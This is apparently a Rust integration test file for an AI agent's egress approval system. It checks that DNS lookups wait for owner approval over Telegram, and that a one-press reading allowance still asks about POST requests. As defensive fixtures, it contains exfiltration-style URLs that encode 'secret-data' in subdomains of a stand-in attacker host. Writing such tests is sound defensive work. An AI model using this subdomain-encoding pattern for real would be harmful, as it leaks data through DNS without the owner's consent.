//! No name leaves before the decision: the real `nexbot serve` runs with a recording name
//! server as its only resolver (its own mount namespace and `resolv.conf`,
//! `nexbot_tests::dns`), in `egress.mode = "ask"`, with the real pool, proxy, Telegram fixture
//! and scripted model. A lookup is itself a message to whoever serves the name, so a task
//! asking for `<data>.attacker.test` must cause no query unless the destination was allowed.

use std::collections::HashMap;
use std::net::IpAddr;

use crate::common::{Serving, TempWorkspace};
use crate::egress_support;
use crate::host_approvals::{
    ask_env, ctl, fetching_model, host, press, results_when, wait_question,
};
use crate::telegram::{has_text, LIMIT, OWNER};

use nexbot_control::{cron_paths, CronAdd, CronJob};
use nexbot_tests::dns::{in_own_resolver, loopback_for, DnsRecorder};
use nexbot_tests::scripted_llm::{ScriptedLlm, Step};
use nexbot_tests::telegram::{BotMessage, TelegramFixture};
use serde_json::Value;

use crate::common::Leftovers;

/// The name the recorder answers (with the test server's address).
const ALLOWED: &str = "allowed.nexbot.test";
/// The attacker's zone: no query under it may ever be sent.
const ATTACKER: &str = ".attacker.test";

/// Refused by a press, unanswered (CONNECT, for `https://`), then allowed: the refused and
/// unanswered names are never looked up, the allowed one only after the press; a scheduled
/// job's refused fetches (nobody to ask) look nothing up either.
#[tokio::test]
async fn a_name_is_looked_up_only_after_its_destination_is_allowed() {
    let Some(_docker) = nexbot_tests::docker_or_skip("egress_dns").await else { return };
    let tg = TelegramFixture::start().await;
    let (server, seen) = egress_support::http_server_at(host()).await;
    let IpAddr::V4(server_ip) = server.ip() else { panic!("the test server has IPv4: {server}") };
    let dns =
        DnsRecorder::start(loopback_for(1), HashMap::from([(ALLOWED.into(), server_ip)])).await;
    let llm = ScriptedLlm::start(vec![]).await;
    let urls = vec![
        "http://secret-data-1.attacker.test/x".to_owned(),
        "https://secret-data-2.attacker.test/".to_owned(),
        format!("http://{ALLOWED}:{}/hello", server.port()),
    ];
    let results = fetching_model(&llm, "collect three pages", urls);
    let ws = TempWorkspace::init("egress-dns");
    let names = Leftovers::new("egdns");
    let mut env = ask_env(&llm, &tg, &names, &[server]);
    env.push(("NEXBOT_EGRESS__APPROVAL_TIMEOUT_SECS".into(), "3".into()));
    let program = in_own_resolver(&ws.dir, dns.addr(), std::path::Path::new(crate::common::NEXBOT));
    let serving = Serving::start_program(&program, &ws.config(), &env, LIMIT).await;
    serving.wait_log("the Telegram channel is on", LIMIT).await;
    tg.user_says(OWNER, OWNER, "collect them").await;

    // Plain HTTP, asked before anything is looked up; denied.
    let first = wait_question(&tg, OWNER, 0).await;
    assert!(first.text.contains("secret-data-1.attacker.test:80"), "{}", first.text);
    assert_eq!(dns.asked_under(ATTACKER), Vec::<String>::new(), "looked up before the question");
    tg.user_clicks(OWNER, OWNER, first.message_id, &press(&first, "Deny")).await;
    // CONNECT, asked too; nobody answers.
    let second = wait_question(&tg, OWNER, 1).await;
    assert!(second.text.contains("secret-data-2.attacker.test:443"), "{}", second.text);
    // The allowed name: still not looked up while the question waits; then allowed once.
    let third = wait_question(&tg, OWNER, 2).await;
    assert!(third.text.contains(ALLOWED), "{}", third.text);
    assert_eq!(dns.asked_under(ALLOWED), Vec::<String>::new(), "looked up before the answer");
    tg.user_clicks(OWNER, OWNER, third.message_id, &press(&third, "Allow once")).await;

    let got = results_when(&results, 3).await;
    let said: Vec<String> = got.iter().map(Value::to_string).collect();
    assert!(said[0].contains("denied by the user"), "{}", said[0]);
    // A refused tunnel reads as a failed connect to reqwest; the question says why.
    assert!(said[1].contains("Connect") && !said[1].contains("hello"), "{}", said[1]);
    assert!(said[2].contains("hello from the allowed server"), "{}", said[2]);
    assert_eq!(seen.lock().unwrap().len(), 1);
    let messages = tg.wait_bot_messages(OWNER, |m| has_text(m, "done with the task"), LIMIT).await;
    let second = messages.iter().find(|m| m.message_id == second.message_id).unwrap();
    assert!(second.text.contains("no answer"), "{}", second.text);
    assert_eq!(dns.asked_under(ATTACKER), Vec::<String>::new(), "a refused name was looked up");
    let allowed = dns.asked_under(ALLOWED);
    assert!(!allowed.is_empty(), "the allowed name was looked up: {:?}", dns.asked());
    assert!(allowed.iter().all(|n| n == ALLOWED), "only its own name: {allowed:?}");

    // A scheduled job has nobody to ask (egress.unattended = "deny"): its fetches are refused
    // without a question and without a lookup, the allowed name's too.
    let before = dns.asked().len();
    results.lock().unwrap().clear();
    let job = CronAdd {
        chat: format!("telegram:{OWNER}"),
        task: "collect three pages for the job".into(),
        at: Some("in 1s".into()),
        ..CronAdd::default()
    };
    let _: CronJob = ctl(&ws).post(cron_paths::CRON, &job).await.unwrap();
    let got = results_when(&results, 3).await;
    let said: Vec<String> = got.iter().map(Value::to_string).collect();
    for plain in [&said[0], &said[2]] {
        assert!(plain.contains("nobody to ask"), "{plain}");
    }
    assert!(said[1].contains("Connect") && !said[1].contains("hello"), "{}", said[1]);
    let done =
        |m: &[BotMessage]| m.iter().filter(|m| m.text.contains("done with the task")).count() >= 2;
    tg.wait_bot_messages(OWNER, done, LIMIT * 2).await;
    assert_eq!(dns.asked()[before..].to_vec(), Vec::<String>::new(), "the job looked names up");
    assert_eq!(seen.lock().unwrap().len(), 1, "the job's fetch never reached the server");
    serving.stop(LIMIT).await;
}

/// Issue 48 §5: a research task that reads eight sites. Answered host by host ("Allow for
/// this task" each time) it asks eight questions; with "Allow reading the web for this task"
/// pressed once, one — and what does more than read (a POST with a body) is still asked. Each
/// site is a name of its own (the recording resolver answers them all with the test server's
/// address), and every one is still reached only through the proxy and named in the receipt.
#[tokio::test]
async fn a_reading_allowance_asks_once_where_per_host_answers_ask_for_every_site() {
    let Some(_docker) = nexbot_tests::docker_or_skip("egress_reading").await else { return };
    let tg = TelegramFixture::start().await;
    let (server, seen) = egress_support::http_server_at(host()).await;
    let IpAddr::V4(server_ip) = server.ip() else { panic!("the test server has IPv4: {server}") };
    let sites: Vec<String> = (1..=8).map(|n| format!("site{n}.reading.test")).collect();
    let answers = sites.iter().map(|s| (s.clone(), server_ip)).collect();
    let dns = DnsRecorder::start(loopback_for(2), answers).await;
    let llm = ScriptedLlm::start(vec![]).await;
    let results = reading_model(&llm, &sites, server.port());
    let ws = TempWorkspace::init("egress-reading");
    let names = Leftovers::new("egread");
    let env = ask_env(&llm, &tg, &names, &[server]);
    let program = in_own_resolver(&ws.dir, dns.addr(), std::path::Path::new(crate::common::NEXBOT));
    let serving = Serving::start_program(&program, &ws.config(), &env, LIMIT).await;
    serving.wait_log("the Telegram channel is on", LIMIT).await;

    // Before: every site is a question of its own.
    tg.user_says(OWNER, OWNER, "research it host by host").await;
    for (nth, site) in sites.iter().enumerate() {
        let question = wait_question(&tg, OWNER, nth).await;
        assert!(question.text.contains(site.as_str()), "{}", question.text);
        let task = press(&question, "Allow for this task");
        tg.user_clicks(OWNER, OWNER, question.message_id, &task).await;
    }
    let done = |n: usize| {
        move |m: &[BotMessage]| {
            m.iter().filter(|m| m.text.contains("done with the task")).count() >= n
        }
    };
    tg.wait_bot_messages(OWNER, done(1), LIMIT * 2).await;
    let per_host = questions_so_far(&tg).await;
    assert_eq!(per_host, 8, "host by host");

    // After: one press of the reading allowance; the POST is asked anyway, and denied.
    results.lock().unwrap().clear();
    tg.user_says(OWNER, OWNER, "research it with the reading allowance").await;
    let first = wait_question(&tg, OWNER, 8).await;
    assert!(first.text.contains(sites[0].as_str()), "{}", first.text);
    let read = press(&first, "Allow reading the web for this task");
    tg.user_clicks(OWNER, OWNER, first.message_id, &read).await;
    let post = wait_question(&tg, OWNER, 9).await;
    assert!(
        post.text.contains("POST /hello") && post.text.contains(sites[2].as_str()),
        "{}",
        post.text
    );
    assert!(
        post.buttons().iter().all(|(label, _)| !label.contains("reading")),
        "a POST is not offered the reading allowance: {:?}",
        post.buttons()
    );
    tg.user_clicks(OWNER, OWNER, post.message_id, &press(&post, "Deny")).await;
    tg.wait_bot_messages(OWNER, done(2), LIMIT * 2).await;
    let with_allowance = questions_so_far(&tg).await - per_host;
    assert_eq!(with_allowance, 2, "one for the reading, one for the POST");
    eprintln!("questions for eight sites: {per_host} host by host, {with_allowance} with the reading allowance (one of them the POST)");

    let got = results.lock().unwrap().clone();
    let said: Vec<String> = got.iter().map(Value::to_string).collect();
    assert_eq!(said.len(), 9, "{said:#?}");
    for read in &said[..8] {
        assert!(read.contains("hello from the allowed server"), "{read}");
    }
    assert!(said[8].contains("denied by the user"), "{}", said[8]);
    let reached = seen.lock().unwrap().clone();
    assert_eq!(reached.len(), 16, "eight reads per task, no POST: {reached:#?}");
    assert!(reached.iter().all(|r| r.starts_with("GET ")), "{reached:#?}");
    // The receipt names every site, and what the allowance let through unasked (the task's
    // message is edited into it, edits spaced, so it may come after the answer).
    let messages = tg.wait_bot_messages(OWNER, |m| has_text(m, "read unasked"), LIMIT).await;
    let receipt = messages.iter().find(|m| m.text.contains("read unasked")).unwrap();
    for site in &sites {
        assert!(receipt.text.contains(site.as_str()), "{site} not in {}", receipt.text);
    }
    assert!(receipt.text.contains("read unasked (7)"), "{}", receipt.text);
    assert!(receipt.text.contains("→ read by telegram:"), "{}", receipt.text);
    serving.stop(LIMIT).await;
}

/// The egress questions the chat was asked so far.
async fn questions_so_far(tg: &TelegramFixture) -> usize {
    let messages = tg.bot_messages(OWNER).await;
    messages.iter().filter(|m| m.raw.contains("A task wants to reach")).count()
}

/// A main agent that delegates each message; a subagent that reads each site's `/hello`, then
/// (in the allowance's task) POSTs a body to the third site; its tool results are kept.
fn reading_model(llm: &ScriptedLlm, sites: &[String], port: u16) -> crate::host_approvals::Results {
    let results = crate::host_approvals::Results::default();
    let seen = results.clone();
    let sites = sites.to_vec();
    llm.set_responder(move |body| {
        if !crate::common::is_main(body) {
            *seen.lock().unwrap() = crate::common::parsed_tool_results(body);
            let done = crate::common::tool_results(body);
            let allowance = body.to_string().contains("with the reading allowance");
            return match sites.get(done) {
                Some(site) => Step::tool_call(
                    "web_fetch",
                    serde_json::json!({ "url": format!("http://{site}:{port}/hello") }),
                ),
                None if allowance && done == sites.len() => Step::tool_call(
                    "http_request",
                    serde_json::json!({ "method": "POST", "url": format!("http://{}:{port}/hello", sites[2]),
                                        "body": "notes=all of them" }),
                ),
                None => Step::text("FETCHED"),
            };
        }
        let last = body["messages"].as_array().and_then(|m| m.last()).cloned();
        let text = last.as_ref().and_then(|m| m["content"].as_str()).unwrap_or_default().to_owned();
        match last.is_some_and(|m| m["role"] == "tool") {
            // Eight fetches: over the default search budget (6).
            false => Step::tool_call(
                "delegate_to_sub_agent",
                serde_json::json!({ "task": text, "search_budget": 12 }),
            ),
            true => Step::text("done with the task"),
        }
    });
    results
}
